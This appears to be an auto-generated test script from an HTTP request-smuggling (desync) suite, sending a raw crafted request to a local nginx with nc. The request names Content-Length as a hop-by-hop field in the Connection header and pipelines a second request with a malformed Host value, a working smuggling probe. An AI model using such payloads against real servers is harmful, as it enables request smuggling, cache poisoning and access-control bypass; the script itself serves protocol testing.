#!/bin/sh
# desync/connection-names-framing-field/smuggled-request via header.insert-field against nginx
printf 'T / HTTP/1.1\r\nConnection:Content-Length\r\nHost:h\r\n\r\nT /c HTTP/1.1\r\nHost:}\r\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
